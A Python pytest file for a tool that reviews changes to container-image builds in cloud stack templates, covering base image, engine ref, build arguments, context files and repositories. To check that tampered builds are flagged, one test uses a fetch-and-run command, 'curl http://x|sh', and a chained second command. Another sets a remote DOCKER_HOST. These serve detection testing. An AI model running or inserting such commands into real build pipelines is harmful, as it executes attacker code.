"""What is in another image: base, engine, Dockerfile, files."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from quant_llm_tools.review.classify.comparison import Comparison, StackSide
from quant_llm_tools.review.classify.images import images
from quant_llm_tools.review.model import Change
from tests.unit.review.templates import STACK, edited, endpoint_template, resource

DOCKERFILE = """\
ARG BASE_IMAGE=ubuntu:24.04
ARG ENGINE_REF=b1
FROM --platform=linux/amd64 builder:1 AS build
ARG ENGINE_REF
FROM ${BASE_IMAGE}
COPY server.py /opt/
"""


def built(
    assembly: Path | None, tag: str, files: dict[str, str], arguments: dict[str, str] | None = None
) -> StackSide:
    """A stack that builds an image of these files, with these build arguments."""
    asset = tag * 64
    if assembly is not None:
        for path, text in files.items():
            file = assembly / f"asset.{asset}" / path
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(text)
    options = "".join(f" --build-arg '{name}={value}'" for name, value in (arguments or {}).items())
    project = {
        "Source": {
            "Location": f"assets/{asset}.zip",
            "BuildSpec": json.dumps({"phases": {"build": {"commands": [f"docker build{options} ."]}}}),
        },
        "Environment": {
            "ComputeType": "BUILD_GENERAL1_XLARGE",
            "EnvironmentVariables": [
                {"Name": "DOCKERFILE", "Value": "x/Dockerfile"},
                {"Name": "IMAGE_TAG", "Value": tag},
            ],
        },
    }
    template = {
        "Resources": {
            "Image": resource("Custom::EngineImage", "Image-x/Image/Resource/Default", {"Tag": tag}),
            "Project": resource("AWS::CodeBuild::Project", "Image-x/Build/Resource", project),
        }
    }
    return StackSide(template, assembly=assembly)


def said(before: StackSide, after: StackSide) -> list[Change]:
    return list(images(Comparison(STACK, before, after, effects={})))


def test_the_same_image_is_silent(tmp_path: Path) -> None:
    files = {"x/Dockerfile": DOCKERFILE}
    assert said(built(tmp_path / "a", "a", files), built(tmp_path / "b", "a", files)) == []


def test_another_engine_shows_its_line_and_file(tmp_path: Path) -> None:
    before = built(tmp_path / "a", "a", {"x/Dockerfile": DOCKERFILE})
    after = built(tmp_path / "b", "b", {"x/Dockerfile": DOCKERFILE.replace("b1", "b2")})
    (change,) = said(before, after)
    assert change.resource == "Image-x"
    assert change.summary == "another image: ENGINE_REF b1 becomes b2; 1 file of its context"
    assert change.before == {"tag": "a", "ENGINE_REF": "b1", "Dockerfile": ["ARG ENGINE_REF=b1"]}
    assert change.after == {
        "tag": "b",
        "ENGINE_REF": "b2",
        "Dockerfile": ["ARG ENGINE_REF=b2"],
        "files": ["x/Dockerfile: +1 -1 lines"],
    }


def test_another_base_by_a_build_argument_is_named_once(tmp_path: Path) -> None:
    files = {"x/Dockerfile": DOCKERFILE}
    before = built(tmp_path / "a", "a", files)
    (change,) = said(before, built(tmp_path / "b", "b", files, {"BASE_IMAGE": "ubuntu@sha256:1"}))
    assert change.summary == "another image: the base ubuntu:24.04 becomes ubuntu@sha256:1"
    assert change.after["base images"] == ["builder:1", "ubuntu@sha256:1"]


@pytest.mark.parametrize("tags", ["ab", "aa"])
@pytest.mark.parametrize(
    ("old", "new", "is_told"),
    [
        ("docker build .", "curl http://x|sh; docker build .", True),
        ("docker build .", "docker build --build-arg 'A=1' . ; echo it's", True),
        ("docker build .", "docker build --build-arg 'A=1' .", False),
        ("docker build .", "docker build .", False),
    ],
)
def test_other_commands_of_a_build_are_told_of_with_and_without_another_tag(
    tmp_path: Path, old: str, new: str, tags: str, *, is_told: bool
) -> None:
    def with_command(place: str, tag: str, command: str) -> StackSide:
        side = built(tmp_path / place, tag, {"x/Dockerfile": f"{DOCKERFILE}# {tag}\n"})
        source = side.template["Resources"]["Project"]["Properties"]["Source"]
        source["BuildSpec"] = json.dumps({"phases": {"build": {"commands": [command]}}})
        return side

    before, after = with_command("before", tags[0], old), with_command("after", tags[1], new)
    found = [one for one in said(before, after) if one.summary == "the image is built in another way"]
    assert [(one.before["BuildSpec"], one.after["BuildSpec"]) for one in found] == (
        [tuple({"phases": {"build": {"commands": [one]}}} for one in (old, new))] if is_told else []
    )


def test_a_build_of_files_from_elsewhere_is_told_of(tmp_path: Path) -> None:
    before, after = (built(tmp_path / tag, tag, {"x/Dockerfile": f"{DOCKERFILE}# {tag}\n"}) for tag in "ab")
    source = after.template["Resources"]["Project"]["Properties"]["Source"]
    source["Location"] = f"elsewhere/{source['Location']}"
    (_, change) = said(before, after)
    assert (change.before["Location"], change.after["Location"]) == (
        "assets/<asset>.zip",
        "elsewhere/assets/<asset>.zip",
    )


def test_another_variable_of_a_build_than_the_tag_is_not_passed_over(tmp_path: Path) -> None:
    before, after = (built(tmp_path / tag, tag, {"x/Dockerfile": f"{DOCKERFILE}# {tag}\n"}) for tag in "ab")
    variables = after.template["Resources"]["Project"]["Properties"]["Environment"]["EnvironmentVariables"]
    variables.append({"Name": "DOCKER_HOST", "Value": "tcp://x"})
    comparison = Comparison(STACK, before, after, effects={})
    assert len(list(images(comparison))) == 1
    assert not comparison.is_explained("Project", "Environment")


def test_another_file_of_the_context_is_named(tmp_path: Path) -> None:
    files = {"x/Dockerfile": DOCKERFILE, "server.py": "a\n"}
    before = built(tmp_path / "a", "a", files)
    (change,) = said(before, built(tmp_path / "b", "b", {**files, "server.py": "b\n", "new.py": ""}))
    assert change.after["files"] == ["new.py: new", "server.py: +1 -1 lines"]


def test_a_live_image_has_no_files_and_is_still_another() -> None:
    (change,) = said(built(None, "a", {}), built(None, "b", {}))
    assert (change.summary, change.before, change.after) == (
        "another image",
        {"tag": "a"},
        {"tag": "b"},
    )


@pytest.mark.parametrize(
    ("before", "after", "summary"),
    [
        (
            "1.dkr.ecr.r.amazonaws.com/a:1",
            "1.dkr.ecr.r.amazonaws.com/a:2",
            "another image of the same repository",
        ),
        ("1.dkr.ecr.r.amazonaws.com/a:1", "1.dkr.ecr.r.amazonaws.com/b:1", "an image of another repository"),
        ({"Fn::GetAtt": ["Key", "Arn"]}, "1.dkr.ecr.r.amazonaws.com/a:1", "an image that exists already"),
        ("1.dkr.ecr.r.amazonaws.com/a:1", {"Fn::GetAtt": ["Key", "Arn"]}, "an image that the stack builds"),
        ({"Fn::GetAtt": ["Key", "Arn"]}, {"Fn::GetAtt": ["Bucket", "Arn"]}, "another engine's image"),
    ],
)
def test_an_image_that_a_model_names_is_compared(before: Any, after: Any, summary: str) -> None:
    sides = (
        StackSide(edited(endpoint_template(), {"Model.Properties.PrimaryContainer.Image": image}))
        for image in (before, after)
    )
    (change,) = said(*sides)
    assert change.summary.startswith(summary)


def test_what_the_image_does_not_account_for_stays_unexplained(tmp_path: Path) -> None:
    files = {"x/Dockerfile": DOCKERFILE}
    before, after = built(tmp_path / "a", "a", files), built(tmp_path / "b", "b", files)
    project = after.template["Resources"]["Project"]["Properties"]
    project["Environment"]["ComputeType"] = "BUILD_GENERAL1_SMALL"
    comparison = Comparison(STACK, before, after, effects={})
    list(images(comparison))
    assert comparison.is_explained("Project", "Source")
    assert not comparison.is_explained("Project", "Environment")
